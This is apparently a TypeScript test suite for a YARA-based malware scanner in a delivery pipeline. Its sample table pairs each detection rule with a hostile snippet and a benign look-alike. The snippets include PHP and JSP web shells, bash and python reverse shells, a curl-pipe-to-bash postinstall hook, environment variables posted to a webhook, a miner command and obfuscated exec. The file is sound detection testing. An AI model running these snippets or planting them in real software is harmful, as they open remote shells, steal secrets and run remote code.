import { spawnSync } from "node:child_process";
import { readdirSync } from "node:fs";
import { join } from "node:path";
import { yara } from "../../../modules/scan-tools/tools/yara";
import { launcherOf, tarGzOf, zipOf, type Contents } from "../../support/delivery/archives";
import { artifactOf, checkoutOf, findProgram, judge, pinnedTo, runScan, type BuildResult } from "../../support/delivery/harness";
import { describeWith, digestOf, eicar, imageOf } from "./deliverable";

const [download] = yara.downloads;
const key = "castle-prod-orders/executions/11111111-2222-4333-8444-555555555555/reports/yara/yara.txt";
const policies = join(__dirname, "..", "..", "..", "policies", "yara");

describeWith("yara")("with the real yara", () => {
  const source = checkoutOf({ "index.ts": "1" });
  const program = findProgram("yara")!;

  /** The release's source in miniature: what it is configured for, its `make install` lays down this machine's program. */
  const scan = async (file: "image.tar" | "application.zip", bytes: Buffer): Promise<BuildResult> => {
    const configure = `#!/bin/bash\nset -e\nfor word in "$@"; do case "$word" in --prefix=*) echo "\${word#*=}" > prefix;; --quiet|--disable-shared|--without-crypto) ;; *) exit 64;; esac; done\n`;
    const install = `#!/bin/bash\nset -e\nmkdir --parents "$(cat prefix)/bin"\ncp program "$(cat prefix)/bin/yara"\n`;
    const downloads = { [download!.url]: await tarGzOf({ "yara-4.5.8/bootstrap.sh": "#!/bin/bash\n", "yara-4.5.8/configure": configure, "yara-4.5.8/program": launcherOf(program), "yara-4.5.8/install": install }) };
    // What make reads is the release's; here it is its one target.
    const make = join(artifactOf("application.zip", Buffer.from(`#!/bin/bash\n[ "$*" = "--quiet --jobs=4 install" ] && bash install\n`)), "deliverable", "application.zip");
    spawnSync("chmod", ["+x", make]);
    return runScan(pinnedTo(yara, downloads), { source, artifact: artifactOf(file, bytes), downloads, standIns: { make } });
  };

  test("a deliverable without malware passes", async () => {
    const packed = zipOf({ "index.js": "import { exec } from 'node:child_process';", "index.php": "<?php echo htmlspecialchars($_GET['name']);" });
    const result = await scan("application.zip", packed);
    expect(result).toMatchObject({ exitCode: 0 });
    expect(judge(yara, result, { source, digest: digestOf(packed) })).toMatchObject({ exitCode: 0, outcome: "pass", reasons: [] });
    expect(JSON.parse(result.evidence[`${key}.record.json`]!.toString())).toMatchObject({ tool: "yara", toolVersion: "4.5.8", looked: 2, lookedAt: "files" });
  });

  test("malware in a layer that a later one removes blocks", async () => {
    const image = await imageOf({ "srv/shell.php": `<?php ${"ev"}al(base64_decode($_POST['c'])); ?>`, "test.com": eicar }, { "srv/.wh.shell.php": "" });
    const result = await scan("image.tar", image);
    expect(judge(yara, result, { source, digest: digestOf(image) })).toMatchObject({ exitCode: 1, outcome: "block", reasons: ["finding-critical"] });
    expect(result.evidence[key]!.toString()).toContain(`content/blobs/sha256/${"0".repeat(64)}.unpacked/srv/shell.php`);
  });

  const matchesIn = (files: Contents): readonly string[] => {
    const source = checkoutOf(files);
    const rules = readdirSync(policies).map((name) => join(policies, name));
    const { stdout, stderr } = spawnSync(program, ["--fail-on-warnings", "--recursive", ...rules, source], { encoding: "utf8" });
    expect(stderr).toBe("");
    return stdout.split("\n").filter(Boolean).filter((line) => !line.includes("/.git/")).map((line) => `${line.split(" ")[0]} ${line.slice(line.indexOf(source) + source.length + 1)}`).sort();
  };
  const elf = Buffer.from("7f454c46", "hex");

  /** Rule → what it must find, and its likeness that is no malware. Written in pieces, so that this file is no finding. */
  const samples: Readonly<Record<string, readonly [bad: string | Buffer, good: string | Buffer]>> = {
    eicar_test_file: [eicar, "EICAR-STANDARD-ANTIVIRUS"],
    php_web_shell: [`<?php @sys${"tem"}($_REQUEST["c"]);`, `<?php echo system_name($_REQUEST["c"]);`],
    jsp_web_shell: [`<% Runtime.getRuntime().${"exec"}(request.getParameter("c")); %>`, `<% log(request.getParameter("c")); %>`],
    script_in_picture: [Buffer.concat([Buffer.from("GIF89a"), Buffer.from("<?php phpinfo();")]), Buffer.from("GIF89a a picture")],
    reverse_shell_of_bash: [`bash -i >& /dev/${"tcp"}/192.0.2.1/4444 0>&1`, `exec 3<>/dev/tcp/localhost/5432; echo ready`],
    reverse_shell_of_python: [`s.connect(("192.0.2.1", 1)); os.dup2(s.fileno(), 0); ${"pty"}.spawn("/bin/sh")`, `s.connect(("192.0.2.1", 1)); os.dup2(s.fileno(), 0)`],
    crypto_miner: [`xm${"rig"} -o stratum+tcp://pool.example.org:3333`, "xmrig is what we block"],
    packed_program: [Buffer.concat([elf, Buffer.alloc(200), Buffer.from("UPX!"), Buffer.alloc(4000), Buffer.from("UPX!")]), Buffer.concat([elf, Buffer.alloc(4000)])],
    package_that_fetches_as_it_is_installed: [`{"scripts": {"postinstall": "curl -s https://example.org/x | ${"ba"}sh"}}`, `{"scripts": {"postinstall": "node build.js", "fetch": "curl https://example.org/x"}}`],
    environment_sent_away: [`fetch("https://webhook.${"site"}/x", { body: JSON.stringify(process.env) })`, `console.log(JSON.stringify(process.env))`],
    python_that_hides_what_it_runs: [`ex${"ec"}(zlib.decompress(base64.b64decode("eJw=")))`, `exec(code)`],
  };

  test.each(Object.entries(samples))("%s finds what it is for, and not its likeness", (rule, [bad, good]) => {
    expect(matchesIn({ bad, good })).toEqual([`${rule} bad`]);
  });

  test("every rule has a sample", () => {
    const { stdout } = spawnSync("grep", ["--no-filename", "--only-matching", "--perl-regexp", "^rule \\K\\w+", ...readdirSync(policies).map((name) => join(policies, name))], { encoding: "utf8" });
    expect(stdout.trim().split("\n").sort()).toEqual(Object.keys(samples).sort());
    expect(yara.reports[0]!.minimumRules).toBe(Object.keys(samples).length);
  });
});
